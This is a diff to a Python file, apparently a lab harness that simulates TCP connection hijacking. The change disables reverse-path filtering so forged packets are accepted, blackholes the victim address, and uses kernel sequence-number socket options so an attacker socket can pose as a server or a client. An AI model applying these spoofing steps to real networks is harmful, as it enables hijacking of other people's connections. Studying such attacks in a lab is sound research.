@@ -54,8 +54,11 @@ def _set_sequence(sock: socket.socket, queue: int, number: int) -> None:
     sock.setsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, ctypes.c_int32(number).value)
 
 
-def send_astray(attacker: LightPod, ip: str) -> None:
-    """What the attacker sends there reaches no host, and its TCP does not hear of that."""
+def cut_off(attacker: LightPod, ip: str) -> None:
+    """What the attacker sends there reaches no host, and its TCP does not hear of that; forged
+    packets from there are taken."""
+    for name in ("all", "lo", "eth0"):
+        attacker.sysctl(f"net.ipv4.conf.{name}.rp_filter", 0)
     attacker.command(f"ip neighbour replace {ip} lladdr 02:00:00:00:00:99 dev eth0 nud permanent")
 
 
@@ -69,7 +72,7 @@ def pose_as_server(
     by way of a simultaneous open the kernel then takes the attacker's socket for a server's. It
     has counted the SYN that it sent, so its own numbers are one ahead of a server's.
     """
-    send_astray(attacker, victim[0])
+    cut_off(attacker, victim[0])
     sock = attacker.new_socket(uid=0)
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     sock.bind((attacker.ip, PORT))
@@ -119,7 +122,7 @@ def pose_as_client(
 
     It has entered the connection.
     """
-    send_astray(attacker, server[0])
+    cut_off(attacker, server[0])
     attacker.command(f"ip address add {me[0]} dev lo")
     sock = attacker.new_socket(uid=0)
     sock.bind(me)
